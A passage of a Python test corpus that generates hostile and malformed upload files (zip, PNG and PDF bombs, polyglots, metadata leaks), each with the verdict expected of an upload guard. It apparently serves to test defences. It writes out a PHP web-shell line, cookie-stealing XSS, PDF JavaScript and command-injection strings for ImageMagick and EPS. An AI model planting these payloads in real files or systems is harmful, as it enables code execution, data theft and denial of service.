"""Hostile and odd files, made here and nowhere kept, each with the verdict expected of the guard.

The table was written before the guard. ``refused``: the file is not taken, with a reason in words.
``clean``: it is taken, and what is kept is harmless (checked by tests/guards/harmless.py, which shares
no code with the guard). ``python -m tests.guards.corpus FOLDER`` writes them all for a look by hand.
"""

import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

REFUSED, CLEAN = "refused", "clean"
SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); __HALT_COMPILER(); ?>"
EICAR_LIKE = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$NOT-A-REAL-ANTIVIRUS-TEST-FILE!$H+H*"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">%s</svg>'


@dataclass(frozen=True)
class Case:
    """``absent``: what must not be found in the bytes that are kept. ``policy``: whose upload it is."""

    label: str
    name: str
    make: Callable[[], bytes]
    verdict: str
    policy: str = "resident"
    absent: tuple[bytes, ...] = ()


# ---- pictures ----


@cache
def base_picture(size=(64, 48), mode="RGB") -> Image.Image:
    picture = Image.new("RGB", size, "#0a5f8a")
    draw = ImageDraw.Draw(picture)
    if min(size) > 8:
        draw.rectangle((4, 4, size[0] // 2, size[1] // 2), fill="#f2b33d")
    draw.line((0, 0, *size), fill="white", width=3)
    return picture.convert(mode)


def saved(kind: str, mode="RGB", size=(64, 48), **options) -> bytes:
    output = BytesIO()
    base_picture(size, mode).save(output, kind, **options)
    return output.getvalue()


def heif(**options) -> bytes:
    output = BytesIO()
    pillow_heif.from_pillow(base_picture()).save(output, format="HEIF", **options)
    return output.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_HEAD = b"\x89PNG\r\n\x1a\n"


def png(width: int, height: int, depth=8, colour=2, raw: bytes = b"\0" * 1000, extra: bytes = b"", end=True) -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return PNG_HEAD + header + extra + chunk(b"IDAT", zlib.compress(raw)) + (chunk(b"IEND", b"") if end else b"")


@cache
def blank_png(width: int, height: int) -> bytes:
    """A true picture of one bit a pixel, all white: a few hundred kilobytes of gigabytes."""
    packer = zlib.compressobj(9)
    row = b"\0" + b"\xff" * ((width + 7) // 8)
    body = b"".join(packer.compress(row * 500) for _ in range(height // 500)) + packer.flush()
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return PNG_HEAD + header + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_with(*chunks: bytes) -> bytes:
    """A good picture with more chunks before its end."""
    good = saved("PNG")
    return good[:33] + b"".join(chunks) + good[33:]


def png_text_bomb(kind: bytes) -> bytes:
    packed = zlib.compress(b"A" * 80_000_000, 9)
    middle = b"\0\0" if kind == b"zTXt" else b"\0\1\0\0\0"
    return png_with(chunk(kind, b"Comment" + middle + packed))


def icc_bomb() -> bytes:
    return png_with(chunk(b"iCCP", b"icc\0\0" + zlib.compress(b"\0" * 90_000_000, 9)))


def jpeg_segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


def jpeg_with(*segments: bytes) -> bytes:
    good = saved("JPEG")
    return good[:2] + b"".join(segments) + good[2:]


def jpeg_claiming(width: int, height: int) -> bytes:
    good = bytearray(saved("JPEG"))
    place = good.index(b"\xff\xc0") + 5
    good[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(good)


def exif(**tags) -> Image.Exif:
    found = Image.Exif()
    found[0x010E] = tags.get("description", "kanatna-905")
    found[0x0110] = "PhoneModel-X"
    if "orientation" in tags:
        found[0x0112] = tags["orientation"]
    if tags.get("gps"):
        place = found.get_ifd(0x8825)
        place[1], place[2], place[3], place[4] = "N", (46.0, 28.0, 57.0), "E", (30.0, 43.0, 24.0)
        place[29] = "2026:03-GPSDATE"
    return found


def gif(frames=1, size=(64, 48), comment: bytes = b"") -> bytes:
    output = BytesIO()
    pictures = [Image.new("P", size, number % 255) for number in range(frames)]
    more = {"save_all": True, "append_images": pictures[1:]} if frames > 1 else {}
    pictures[0].save(output, "GIF", comment=comment, **more)
    return output.getvalue()


def gif_many(frames: int) -> bytes:
    """So many frames that drawing them all would take minutes."""
    head = b"GIF89a" + struct.pack("<HHBBB", 4000, 4000, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    small = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"
    return head + small * frames + b"\x3b"


def animated(kind: str, frames=12) -> bytes:
    output = BytesIO()
    pictures = [Image.new("RGB", (40, 30), (number * 20, 0, 90)) for number in range(frames)]
    pictures[0].save(output, kind, save_all=True, append_images=pictures[1:])
    return output.getvalue()


def mpo() -> bytes:
    output = BytesIO()
    base_picture().save(output, "MPO", save_all=True, append_images=[base_picture((32, 24))])
    return output.getvalue()


def wide_gamut_profile() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def bmp_like(kind: str, mode="RGB") -> bytes:
    return saved(kind, mode)


def psd() -> bytes:
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 4, 4, 8, 3) + b"\0" * 12 + b"\0\0" + b"\0" * 48


def webp_chunked(*extra: tuple[bytes, bytes]) -> bytes:
    """A RIFF file with more chunks after the picture."""
    good = saved("WEBP")
    body = good[12:]
    for name, data in extra:
        body += name + struct.pack("<I", len(data)) + data + (b"\0" if len(data) % 2 else b"")
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def heif_claiming(width: int, height: int) -> bytes:
    good = bytearray(heif())
    place = good.index(b"ispe") + 8
    good[place : place + 8] = struct.pack(">II", width, height)
    return bytes(good)


# ---- archives and documents ----


def archive(files: dict[str, bytes], stored=False) -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as package:
        for name, content in files.items():
            package.writestr(name, content)
    return output.getvalue()


def nested_zip(depth=4) -> bytes:
    content = b"\0" * 5_000_000
    for level in range(depth):
        content = archive({f"{level}-{number}.zip": content for number in range(4)})
    return content


WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
BODY = b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
RELS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'
RELATION = '<Relationship Id="r%s" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/>'


def docx(kind=WORD, extra: dict[str, bytes] | None = None, relations: str = "", body: bytes = BODY) -> bytes:
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    )
    files = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": (RELS % (RELATION % (1, "officeDocument", "word/document.xml", ""))).encode(),
        "word/document.xml": body,
        "word/_rels/document.xml.rels": (RELS % relations).encode(),
        "docProps/core.xml": b"<cp>AUTHOR-NAME-IVANENKO</cp>",
    }
    return archive({**files, **(extra or {})})


def odt(extra: dict[str, bytes] | None = None) -> bytes:
    output = BytesIO()
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        for name, content in {"content.xml": b"<o/>", "META-INF/manifest.xml": manifest, **(extra or {})}.items():
            package.writestr(name, content)
    return output.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000


# ---- PDF ----


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, pages=1, **options) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(300, 200))
    if change:
        change(document)
    output = BytesIO()
    document.save(output, **options)
    return output.getvalue()


N, D, A, S = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String


def script(code="app.alert(1337)"):
    return D(S=N.JavaScript, JS=S(code))


def at_root(**entries) -> Callable:
    def change(document):
        for name, value in entries.items():
            document.Root[f"/{name}"] = document.make_indirect(value) if isinstance(value, D) else value

    return change


def with_annotation(**entries) -> Callable:
    def change(document):
        rect = A([0, 0, 50, 50])
        document.pages[0].Annots = A([document.make_indirect(D(Type=N.Annot, Rect=rect, **entries))])

    return change


def at_page(**entries) -> Callable:
    def change(document):
        for name, value in entries.items():
            document.pages[0].obj[f"/{name}"] = value

    return change


def embedded(document):
    document.attachments["evil.exe"] = b"MZ-EVIL-PROGRAM"


def named_script(document):
    document.Root.Names = D(JavaScript=D(Names=A([S("x"), document.make_indirect(script())])))


def xfa(document):
    document.Root.AcroForm = D(XFA=document.make_stream(b"<xdp:xdp><script>xfa-evil</script></xdp:xdp>"), Fields=A([]))


def form_script(document):
    field = document.make_indirect(D(FT=N.Tx, T=S("f"), AA=D(K=script("AFevil()")), Subtype=N.Widget, Type=N.Annot, Rect=A([0, 0, 9, 9])))
    document.pages[0].Annots = A([field])
    document.Root.AcroForm = D(Fields=A([field]))


def info(document):
    document.docinfo["/Author"] = "AUTHOR-NAME-IVANENKO"
    document.docinfo["/Title"] = "SECRET-TITLE"


def xmp(document):
    with document.open_metadata() as meta:
        meta["dc:creator"] = ["AUTHOR-NAME-IVANENKO"]


def deep_tree(document):
    inner = D(Type=N.Pages, Kids=A([]), Count=0)
    for _ in range(2000):
        inner = document.make_indirect(D(Type=N.Pages, Kids=A([inner]), Count=0))
    document.Root.Pages = inner


def page_loop(document):
    root = document.Root.Pages
    root.Kids.append(root)


def image_with_exif(document):
    picture = pikepdf.Stream(document, saved("JPEG", exif=exif(gps=True)))
    picture.Type, picture.Subtype, picture.Filter = N.XObject, N.Image, N.DCTDecode
    picture.Width, picture.Height, picture.ColorSpace, picture.BitsPerComponent = 64, 48, N.DeviceRGB, 8
    page = document.pages[0]
    page.Resources = D(XObject=D(I=picture))
    page.Contents = document.make_stream(b"q 100 0 0 100 0 0 cm /I Do Q")


def image_bomb(document):
    picture = pikepdf.Stream(document, zlib.compress(b"\0" * 30_000_000, 9))
    picture.Type, picture.Subtype, picture.Filter = N.XObject, N.Image, N.FlateDecode
    picture.Width, picture.Height, picture.ColorSpace, picture.BitsPerComponent = 100_000, 100_000, N.DeviceRGB, 8
    document.pages[0].Resources = D(XObject=D(I=picture))


def flate_levels(levels: int, size: int) -> Callable:
    def change(document):
        content = b" " * size
        for _ in range(levels):
            content = zlib.compress(content, 9)
        stream = pikepdf.Stream(document, content)
        stream.Filter = A([N.FlateDecode] * levels)
        document.pages[0].Contents = document.make_indirect(stream)

    return change


def object_stream_bomb() -> bytes:
    """The objects themselves are packed: to read the document at all is to unpack two gigabytes."""
    packer = zlib.compressobj(9)
    start = packer.compress(b"1 0 " + b" " * 96 + b"<</Type/Catalog>>") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b" " * 10_000_000) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = start + block * 200  # a block stands alone after a full flush
    head = b"%PDF-1.5\n"
    stream = b"2 0 obj\n<</Type/ObjStm/N 1/First 100/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed)
    stream += packed + b"\nendstream\nendobj\n"
    place = len(head) + len(stream)
    rows = bytes([0, 0, 0, 0, 0, 2]) + b"".join([b"\2" + struct.pack(">I", 2) + b"\0", b"\1" + struct.pack(">I", len(head)) + b"\0"])
    rows += b"\1" + struct.pack(">I", place) + b"\0"
    xref = b"3 0 obj\n<</Type/XRef/Size 4/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(rows) + rows + b"\nendstream\nendobj\n"
    return head + stream + xref + b"startxref\n%d\n%%%%EOF\n" % place


def plain_pdf(body: bytes) -> bytes:
    return b"%PDF-1.4\n" + body + b"\ntrailer<</Root 1 0 R/Size 9>>\nstartxref\n9\n%%EOF\n"


def signed(document):
    value = D(Type=N.Sig, Filter=N("/Adobe.PPKLite"), SubFilter=N("/adbe.pkcs7.detached"), ByteRange=A([0, 1, 2, 3]), Contents=S("0" * 64))
    field = document.make_indirect(
        D(FT=N.Sig, T=S("s"), V=document.make_indirect(value), Subtype=N.Widget, Type=N.Annot, Rect=A([0, 0, 0, 0]))
    )
    document.pages[0].Annots = A([field])
    document.Root.AcroForm = D(Fields=A([field]), SigFlags=3)


def link_to(address: str) -> Callable:
    return with_annotation(Subtype=N.Link, A=D(S=N.URI, URI=S(address)))


def encrypted(**options) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="owner", **options))


AS_IT_IS = {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.none}


# ---- the table ----

AUTHOR = (b"IVANENKO",)
PLACE = (b"GPSDATE", b"PhoneModel-X", b"kanatna", b"Exif", b"http://ns.adobe.com")


def pictures() -> list[Case]:
    rows = [
        Case(f"{kind} as it is", f"фото.{name}", lambda kind=kind: saved(kind), CLEAN)
        for kind, name in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp"), ("AVIF", "avif"))
    ]
    rows += [
        Case("HEIC of a telephone", "IMG_0001.HEIC", heif, CLEAN),
        Case("HEIC with a place", "IMG_0002.heic", lambda: heif(exif=exif(gps=True).tobytes()), CLEAN, absent=PLACE),
        Case("HEIC named jpg", "IMG_0003.jpg", heif, CLEAN),
        Case("HEIC cut in half", "IMG_0004.heic", lambda: heif()[:300], REFUSED),
        Case("HEIC that claims 60 000 pixels a side", "IMG_0005.heic", lambda: heif_claiming(60_000, 60_000), REFUSED),
        Case("HEIC with a page behind it", "IMG_0006.heic", lambda: heif() + HTML, CLEAN, absent=(SCRIPT,)),
        Case("AVIF with a page behind it", "a.avif", lambda: saved("AVIF") + HTML, CLEAN, absent=(SCRIPT,)),
        Case("AVIF cut in half", "a.avif", lambda: saved("AVIF")[:120], REFUSED),
        Case("two pictures in one JPEG (MPO)", "mpo.jpg", mpo, CLEAN),
        Case("still GIF", "a.gif", gif, CLEAN),
        Case("animated GIF", "a.gif", lambda: gif(20), CLEAN),
        Case("GIF of 100 000 frames", "a.gif", lambda: gif_many(100_000), CLEAN),
        Case("GIF with a remark", "a.gif", lambda: gif(comment=SCRIPT), CLEAN, absent=(SCRIPT,)),
        Case("GIF that is a script (GIF89a/*)", "a.gif", lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1)//", REFUSED),
        Case(
            "GIF with an archive behind it (GIFAR)",
            "a.gif",
            lambda: gif() + archive({"A.class": b"\xca\xfe\xba\xbe"}),
            CLEAN,
            absent=(b"PK\x03\x04", b"A.class"),
        ),
        Case("GIF of no size", "a.gif", lambda: b"GIF89a" + b"\0" * 100, REFUSED),
        Case(
            "GIF that claims 65 535 a side",
            "a.gif",
            lambda: (
                b"GIF89a"
                + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
                + b"\0" * 6
                + b"\x2c"
                + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
                + b"\x02\x02\x44\x01\x00\x3b"
            ),
            REFUSED,
        ),
        Case("animated WebP", "a.webp", lambda: animated("WEBP"), CLEAN),
        Case("animated PNG", "a.png", lambda: animated("PNG"), CLEAN),
        Case("animated AVIF", "a.avif", lambda: animated("AVIF", 3), CLEAN),
        Case("WebP with EXIF", "a.webp", lambda: saved("WEBP", exif=exif(gps=True)), CLEAN, absent=PLACE),
        Case("WebP with XMP", "a.webp", lambda: saved("WEBP", xmp=b"<x:xmpmeta xmlns:x='http://ns.adobe.com'/>"), CLEAN, absent=PLACE),
        Case("WebP with a chunk of its own", "a.webp", lambda: webp_chunked((b"EVIL", PHP)), CLEAN, absent=(b"<?php",)),
        Case("WebP cut in half", "a.webp", lambda: saved("WEBP")[:40], REFUSED),
        Case("RIFF that is a sound", "a.webp", lambda: b"RIFF\x24\0\0\0WAVEfmt " + b"\0" * 40, REFUSED),
        Case("WebP, transparent", "a.webp", lambda: saved("WEBP", "RGBA"), CLEAN),
        Case("JPEG, grey", "a.jpg", lambda: saved("JPEG", "L"), CLEAN),
        Case("JPEG, CMYK", "a.jpg", lambda: saved("JPEG", "CMYK"), CLEAN),
        Case("JPEG, progressive", "a.jpg", lambda: saved("JPEG", progressive=True), CLEAN),
        Case("PNG, 16 bits", "a.png", lambda: saved("PNG", "I;16"), CLEAN),
        Case("PNG, one bit", "a.png", lambda: saved("PNG", "1"), CLEAN),
        Case("PNG, palette", "a.png", lambda: saved("PNG", "P"), CLEAN),
        Case("PNG, grey with transparency", "a.png", lambda: saved("PNG", "LA"), CLEAN),
        Case("PNG, transparent", "a.png", lambda: saved("PNG", "RGBA"), CLEAN),
        Case("PNG of one pixel", "a.png", lambda: saved("PNG", size=(1, 1)), CLEAN),
        Case("JPEG, a strip 1 × 3000", "a.jpg", lambda: saved("JPEG", size=(1, 3000)), CLEAN),
        Case("BMP", "a.bmp", lambda: bmp_like("BMP"), REFUSED),
        Case("TIFF", "a.tiff", lambda: bmp_like("TIFF"), REFUSED),
        Case("TIFF named jpg", "a.jpg", lambda: bmp_like("TIFF"), REFUSED),
        Case("ICO", "a.ico", lambda: bmp_like("ICO", "RGBA"), REFUSED),
        Case("PSD", "a.psd", psd, REFUSED),
        Case("JPEG 2000", "a.jp2", lambda: b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 60, REFUSED),
        Case("TGA", "a.tga", lambda: bmp_like("TGA"), REFUSED),
        Case("PPM", "a.ppm", lambda: bmp_like("PPM"), REFUSED),
        Case("PCX", "a.pcx", lambda: bmp_like("PCX"), REFUSED),
        Case("DDS", "a.dds", lambda: bmp_like("DDS"), REFUSED),
        Case("SGI", "a.sgi", lambda: bmp_like("SGI"), REFUSED),
        Case("EPS", "a.eps", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage\n", REFUSED),
        Case("EPS named jpg", "a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (w) file\n", REFUSED),
        Case("WMF", "a.wmf", lambda: b"\xd7\xcd\xc6\x9a" + b"\0" * 60, REFUSED),
        Case(
            "ImageMagick's own script",
            "a.png",
            lambda: b"push graphic-context\nfill 'url(https://example.com/|id)'\npop graphic-context",
            REFUSED,
        ),
    ]
    rows += [
        Case(
            f"JPEG turned ({value})",
            f"turned-{value}.jpg",
            lambda value=value: saved("JPEG", exif=exif(orientation=value)),
            CLEAN,
            absent=PLACE,
        )
        for value in range(1, 9)
    ]
    rows += [
        Case(
            f"JPEG turned by nonsense ({value})",
            "turned.jpg",
            lambda value=value: saved("JPEG", exif=exif(orientation=value)),
            CLEAN,
            absent=PLACE,
        )
        for value in (0, 9, 255)
    ]
    return rows


def metadata() -> list[Case]:
    app = jpeg_segment
    return [
        Case("JPEG with a place", "a.jpg", lambda: saved("JPEG", exif=exif(gps=True)), CLEAN, absent=PLACE),
        Case("PNG with a place", "a.png", lambda: saved("PNG", exif=exif(gps=True)), CLEAN, absent=(*PLACE, b"eXIf")),
        Case("AVIF with a place", "a.avif", lambda: saved("AVIF", exif=exif(gps=True)), CLEAN, absent=PLACE),
        Case(
            "JPEG with XMP",
            "a.jpg",
            lambda: saved("JPEG", xmp=b"<x:xmpmeta>http://ns.adobe.com IVANENKO</x:xmpmeta>"),
            CLEAN,
            absent=PLACE + AUTHOR,
        ),
        Case(
            "JPEG with IPTC",
            "a.jpg",
            lambda: jpeg_with(app(0xED, b"Photoshop 3.0\x008BIM IVANENKO")),
            CLEAN,
            absent=(*AUTHOR, b"Photoshop"),
        ),
        Case("JPEG with a remark that is a page", "a.jpg", lambda: jpeg_with(app(0xFE, HTML)), CLEAN, absent=(SCRIPT,)),
        Case("JPEG with a remark that is PHP", "a.jpg", lambda: jpeg_with(app(0xFE, PHP)), CLEAN, absent=(b"<?php",)),
        Case(
            "JPEG with EXIF that is PHP", "a.jpg", lambda: saved("JPEG", exif=exif(description="<?php evil ?>")), CLEAN, absent=(b"<?php",)
        ),
        Case(
            "JPEG with a thumbnail inside",
            "a.jpg",
            lambda: jpeg_with(app(0xE1, b"Exif\0\0" + saved("JPEG", size=(16, 16)))),
            CLEAN,
            absent=(b"Exif",),
        ),
        Case(
            "JPEG with 20 application segments",
            "a.jpg",
            lambda: jpeg_with(*(app(0xE0 + n % 16, b"EVIL-SEGMENT" * 40) for n in range(2, 22))),
            CLEAN,
            absent=(b"EVIL-SEGMENT",),
        ),
        Case(
            "JPEG with a colour profile",
            "a.jpg",
            lambda: saved("JPEG", icc_profile=wide_gamut_profile()),
            CLEAN,
            absent=(b"ICC_PROFILE", b"acsp"),
        ),
        Case(
            "PNG with a colour profile", "a.png", lambda: saved("PNG", icc_profile=wide_gamut_profile()), CLEAN, absent=(b"iCCP", b"acsp")
        ),
        Case("JPEG with a broken profile", "a.jpg", lambda: saved("JPEG", icc_profile=b"\0" * 4000), CLEAN, absent=(b"ICC_PROFILE",)),
        Case(
            "CMYK JPEG with a foreign profile",
            "a.jpg",
            lambda: saved("JPEG", "CMYK", icc_profile=wide_gamut_profile()),
            CLEAN,
            absent=(b"ICC_PROFILE",),
        ),
        Case("PNG with a profile bomb", "a.png", icc_bomb, REFUSED),
        Case("PNG with a text bomb (zTXt)", "a.png", lambda: png_text_bomb(b"zTXt"), REFUSED),
        Case("PNG with a text bomb (iTXt)", "a.png", lambda: png_text_bomb(b"iTXt"), REFUSED),
        Case("PNG with words in it (tEXt)", "a.png", lambda: saved("PNG", pnginfo=text_info()), CLEAN, absent=(*AUTHOR, b"tEXt", SCRIPT)),
        Case("PNG with a time (tIME)", "a.png", lambda: png_with(chunk(b"tIME", b"\x07\xea\x03\x05\x0a\0\0")), CLEAN, absent=(b"tIME",)),
        Case("PNG with a private chunk", "a.png", lambda: png_with(chunk(b"evIl", PHP)), CLEAN, absent=(b"<?php",)),
        Case(
            "PNG with 2000 text chunks",
            "a.png",
            lambda: png_with(*(chunk(b"tEXt", b"k\0" + SCRIPT) for _ in range(2000))),
            CLEAN,
            absent=(SCRIPT,),
        ),
        Case(
            "PNG with megabytes of text",
            "a.png",
            lambda: png_with(*(chunk(b"tEXt", b"k\0" + b"A" * 900_000) for _ in range(9))),
            CLEAN,
            absent=(b"A" * 100,),
        ),
        Case("PNG with EXIF of nonsense", "a.png", lambda: png_with(chunk(b"eXIf", b"II*\0" + b"\xff" * 300)), CLEAN, absent=(b"eXIf",)),
        Case(
            "JPEG with EXIF of nonsense", "a.jpg", lambda: jpeg_with(app(0xE1, b"Exif\0\0II*\0" + b"\xff" * 300)), CLEAN, absent=(b"Exif",)
        ),
        Case(
            "JPEG with EXIF that runs in a ring",
            "a.jpg",
            lambda: jpeg_with(app(0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\x08")),
            CLEAN,
            absent=(b"Exif",),
        ),
    ]


def text_info() -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text("Author", "IVANENKO")
    found.add_text("Comment", SCRIPT.decode())
    return found


def bombs() -> list[Case]:
    sizes = ((40_000, 40_000), (65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (200_000, 300), (0, 0), (0, 100))
    rows = [Case(f"PNG that claims {w} × {h}", "bomb.png", lambda w=w, h=h: png(w, h), REFUSED) for w, h in sizes]
    rows += [
        Case(f"JPEG that claims {w} × {h}", "bomb.jpg", lambda w=w, h=h: jpeg_claiming(w, h), REFUSED)
        for w, h in ((65_500, 65_500), (0, 0), (9_000, 9_000), (65_500, 900))
    ]
    rows += [
        Case("true PNG of 50 000 × 50 000, one bit", "bomb.png", lambda: blank_png(50_000, 50_000), REFUSED),
        Case("true PNG of 6 500 × 6 500, one bit", "big.png", lambda: blank_png(6_500, 6_500), CLEAN),
        Case("PNG whose data is a hundred times its size", "bomb.png", lambda: png(100, 100, raw=b"\0" * 50_000_000), CLEAN),
        Case(
            "GIF frames outside the picture",
            "a.gif",
            lambda: (
                b"GIF89a"
                + struct.pack("<HHBBB", 10, 10, 0x80, 0, 0)
                + b"\0" * 6
                + b"\x2c"
                + struct.pack("<HHHHB", 60000, 60000, 60000, 60000, 0)
                + b"\x02\x02\x44\x01\x00\x3b"
            ),
            REFUSED,
        ),
        Case(
            "WebP that claims 16 383 a side",
            "a.webp",
            lambda: saved("WEBP", lossless=True)[:21] + b"\xff\xff\xff\x0f" + saved("WEBP", lossless=True)[25:],
            REFUSED,
        ),
        Case("zip bomb as it is", "фото.zip", lambda: archive({"0.txt": b"\0" * 60_000_000}), REFUSED),
        Case("zip bomb in zips", "фото.zip", nested_zip, REFUSED),
        Case("zip bomb named jpg", "фото.jpg", lambda: archive({"0.txt": b"\0" * 20_000_000}), REFUSED),
        Case("zip bomb named docx", "лист.docx", lambda: archive({"0.txt": b"\0" * 20_000_000}), REFUSED, "editor"),
        Case("zip bomb inside a docx", "лист.docx", lambda: docx(extra={"word/media/a.bin": b"\0" * 400_000_000}), REFUSED, "editor"),
        Case("PDF, 3 levels of packing", "лист.pdf", lambda: pdf(flate_levels(3, 60_000_000)), REFUSED),
        Case("PDF, 12 levels of packing", "лист.pdf", lambda: pdf(flate_levels(12, 5_000_000), **AS_IT_IS), REFUSED),
        Case("PDF, a page of 250 MB of blanks", "лист.pdf", lambda: pdf(flate_levels(1, 250_000_000)), REFUSED),
        Case("PDF, a packed bomb of objects", "лист.pdf", object_stream_bomb, REFUSED),
        Case("PDF with a picture of 100 000 a side", "лист.pdf", lambda: pdf(image_bomb), REFUSED),
        Case("PDF of 3000 pages", "лист.pdf", lambda: pdf(pages=3000), REFUSED),
        Case("gzip", "лист.gz", lambda: b"\x1f\x8b\x08" + b"\0" * 100, REFUSED),
        Case("a file over the limit", "кіно.jpg", lambda: saved("JPEG") + b"\0" * 11_000_000, REFUSED),
    ]
    return rows


def polyglots() -> list[Case]:
    tails = [
        ("a page", HTML, (SCRIPT,)),
        ("PHP", PHP, (b"<?php",)),
        ("an archive", archive({"evil.class": b"\xca\xfe\xba\xbe"}), (b"PK\x03\x04", b"PK\x05\x06")),
        ("a PDF", pdf(), (b"%PDF",)),
        ("a phar", PHP + b"phar-evil", (b"phar-evil",)),
        ("a program", b"MZ" + b"EVILPROGRAM" * 10, (b"EVILPROGRAM",)),
        ("ten kilobytes of nothing", b"\0" * 10_000, (b"\0" * 5_000,)),
        ("another picture", saved("PNG", size=(16, 16)), ()),
    ]
    rows = []
    for kind, name in (("JPEG", "jpg"), ("PNG", "png"), ("WEBP", "webp")):
        rows += [
            Case(f"{kind} with {what} behind it", f"a.{name}", lambda kind=kind, tail=tail: saved(kind) + tail, CLEAN, absent=absent)
            for what, tail, absent in tails
        ]
    heads = [("JPEG", lambda: saved("JPEG")), ("GIF", gif), ("PNG", lambda: saved("PNG"))]
    rows += [
        Case(f"PDF with a {kind} before it", "лист.pdf", lambda make=make: make()[:6] + b"\n" + pdf(), REFUSED) for kind, make in heads
    ]
    rows += [
        Case(
            "PDF with an archive behind it",
            "лист.pdf",
            lambda: pdf() + archive({"evil.class": b"x"}, stored=True),
            CLEAN,
            absent=(b"PK\x03\x04", b"evil.class"),
        ),
        Case("PDF with a page behind it", "лист.pdf", lambda: pdf() + HTML, CLEAN, absent=(SCRIPT,)),
        Case("PDF with PHP behind it", "лист.pdf", lambda: pdf() + PHP, CLEAN, absent=(b"<?php",)),
        Case(
            "PDF with a page between its objects",
            "лист.pdf",
            lambda: pdf().replace(b"endobj\n", b"endobj\n% " + HTML + b"\n", 1),
            CLEAN,
            absent=(SCRIPT,),
        ),
        Case("a page before the PDF", "лист.pdf", lambda: HTML + pdf(), REFUSED),
        Case("a PDF 900 bytes into the file", "лист.pdf", lambda: b" " * 900 + pdf(), REFUSED),
        Case("a picture that is a PDF too (remark)", "a.jpg", lambda: jpeg_with(jpeg_segment(0xFE, pdf())), CLEAN, absent=(b"%PDF",)),
        Case(
            "a picture that is a script too",
            "a.jpg",
            lambda: jpeg_with(jpeg_segment(0xFE, b"*/=alert(1);/*")),
            CLEAN,
            absent=(b"alert(1)",),
        ),
        Case("a bitmap that is a script", "a.bmp", lambda: b"BM=1;alert(1)//" + b"\0" * 60, REFUSED),
        Case(
            "PNG with PHP among its data", "a.png", lambda: png(100, 2, raw=(b"\0" + PHP).ljust(301, b"\0") * 2), CLEAN, absent=(b"<?php",)
        ),
        Case("palette of a PNG that is PHP", "a.png", lambda: png_palette(PHP), CLEAN, absent=(b"<?php", b"system(")),
        Case("palette of a GIF that is PHP", "a.gif", lambda: gif_palette(PHP), CLEAN, absent=(b"<?php", b"system(")),
    ]
    return rows


def png_palette(words: bytes) -> bytes:
    colours = (words + b"\0" * 3)[: len(words) // 3 * 3]
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 3, 0, 0, 0))
    return PNG_HEAD + header + chunk(b"PLTE", colours) + chunk(b"IDAT", zlib.compress(b"\0\0\1\2\3" * 4)) + chunk(b"IEND", b"")


def gif_palette(words: bytes) -> bytes:
